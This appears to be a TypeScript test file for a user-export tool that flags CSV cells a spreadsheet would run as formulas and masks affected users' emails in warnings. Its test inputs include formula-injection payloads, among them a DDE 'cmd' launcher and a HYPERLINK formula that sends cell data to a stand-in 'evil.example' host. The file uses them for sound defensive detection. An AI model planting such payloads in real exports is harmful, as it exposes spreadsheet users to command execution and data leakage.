// import.csv holds what the importer needs raw, so a value a spreadsheet would run as a formula is
// kept, and counted in a warning; rows the importer would refuse or change name their users
// (masked), so that they are restored with `restore` instead.
import * as assert from "assert";
import * as fs from "fs";
import * as os from "os";
import * as path from "path";
import { runUsers } from "../../tools/users";
import { importRow } from "../../tools/users/backup/csv";
import type { CognitoSender } from "../../tools/users/client";

const user = (attributes: Record<string, string>) => ({ username: "u-1", status: "CONFIRMED", enabled: true, attributes: { email: "amal@example.com", ...attributes } });
const columns = ["name", "email", "phone_number", "custom:score", "cognito:username"];
const findings = (attributes: Record<string, string>) => importRow(user(attributes), columns, "OFF").findings;

describe("import.csv: what a spreadsheet would run, and what the importer cannot take", () => {
    it("finds a formula in any cell that starts with =, +, -, @, a tab or a carriage return, but not in a plain number", () => {
        for (const name of ["=HYPERLINK(\"https://evil.example\",\"x\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tx", "\rx"]) assert.strictEqual(findings({ name }).formula, true, JSON.stringify(name));
        const plain: Record<string, string>[] = [{ phone_number: "+971500000000" }, { "custom:score": "-5" }, { "custom:score": "+2.5" }, { name: "Amal = a name" }];
        for (const value of plain) assert.strictEqual(findings(value).formula, false, JSON.stringify(value));
    });

    it("finds a formula after a comma too: a spreadsheet or a standard CSV reader ignores the importer's backslash and starts a cell there", () => {
        const hyperlink = 'Amal,=HYPERLINK("http://evil.example/?"&A1,"click")';
        const { row, findings: found } = importRow(user({ name: hyperlink }), columns, "OFF");
        assert.ok(row.startsWith('Amal\\,=HYPERLINK("http://evil.example/?"&A1\\,"click")'), row);
        assert.strictEqual(row.split(",")[1], '=HYPERLINK("http://evil.example/?"&A1\\', "what a standard reader sees: a cell that starts with =");
        assert.strictEqual(found.formula, true);
        for (const name of ['"=1+1"', " =1+1", "Amal,+cmd|' /C calc'!A0", "a,-2+3", "a,b,@SUM(A1)", "a,\tx", "a,\rx", 'a,"=1+1"', "a, =1+1", "a,\n=1+1"]) assert.strictEqual(findings({ name }).formula, true, JSON.stringify(name));
        for (const name of ["Amal, Jr", "Doe,+971500000000", "a,-5", "a,b=c", "a,"]) assert.strictEqual(findings({ name }).formula, false, JSON.stringify(name));
    });

    it("finds values the importer cannot keep: spaces at either end, line breaks, a backslash before a comma", () => {
        for (const name of [" Amal", "Amal ", "A\nB", "A\u2028B", "A\\,B"]) assert.strictEqual(findings({ name }).altered, true, JSON.stringify(name));
        for (const name of ["Amal, Jr", "أمل الحسن", "A\\B", "ends\\"]) assert.strictEqual(findings({ name }).altered, false, JSON.stringify(name));
    });

    it("finds rows over the importer's 16,000 characters, counted as written (escapes included)", () => {
        assert.strictEqual(findings({ name: "x".repeat(15_900) }).tooLong, false);
        assert.strictEqual(findings({ name: ",".repeat(8_000) }).tooLong, true, "each comma takes a backslash");
    });

    it("names the users in the export's output, masked, and counts the formulas", async () => {
        const at = new Date("2025-01-31T08:00:00.000Z");
        const listed = (n: number, attributes: Record<string, string>) => ({
            Username: `user-${n}`, UserStatus: "CONFIRMED", Enabled: true, UserCreateDate: at, UserLastModifiedDate: at,
            Attributes: Object.entries({ sub: `sub-${n}`, email: `u${n}@example.com`, ...attributes }).map(([Name, Value]) => ({ Name, Value })),
        });
        const users = [listed(1, { name: "=1+1" }), listed(2, { name: "@x" }), listed(3, { name: "fine", website: "y".repeat(16_000) }), listed(4, { name: " padded" }), listed(5, { name: "plain" }), listed(6, { name: "Amal,=1+1" })];
        const answers: Record<string, () => object> = {
            ListUsers: () => ({ Users: users }),
            AdminGetUser: () => ({}),
            ListGroups: () => ({ Groups: [] }),
            DescribeUserPool: () => ({ UserPool: { Id: "eu-central-1_Csv12345", MfaConfiguration: "OFF", UsernameAttributes: ["email"] } }),
            GetCSVHeader: () => ({ CSVHeader: ["cognito:username", "email", "name", "website", "cognito:mfa_enabled"] }),
        };
        const client: CognitoSender = { send: async (command) => answers[command.constructor.name.replace(/Command$/, "")]() };
        const folder = path.join(fs.mkdtempSync(path.join(os.tmpdir(), "users-csv-")), "export");
        try {
            const result = await runUsers(["export", folder, "--pool", "eu-central-1_Csv12345", "--no-mfa"], { env: {}, root: os.tmpdir(), client: () => client });
            assert.strictEqual(result.code, 0, result.stderr);
            assert.deepStrictEqual(result.stdout.split("\n").filter((line) => line.startsWith("import.csv: ") && !line.includes("columns from")), [
                "import.csv: 3 users have a value a spreadsheet would run as a formula (=, +, -, @ or a tab first, or after a comma); kept as it is, since the importer needs the raw value: open import.csv in a text editor, never in a spreadsheet",
                "import.csv: the rows of u***@example.com exceed the importer's 16,000 characters: restore them with restore, not an import job",
                "import.csv: the importer cannot keep the values of u***@example.com exactly (spaces at either end, a line break, or a backslash before a comma): restore them with restore, which keeps users.jsonl exactly",
            ]);
            assert.ok(fs.readFileSync(path.join(folder, "import.csv"), "utf8").includes(",=1+1,"), "the raw value is kept");
        } finally {
            fs.rmSync(path.dirname(folder), { recursive: true, force: true });
        }
    });
});
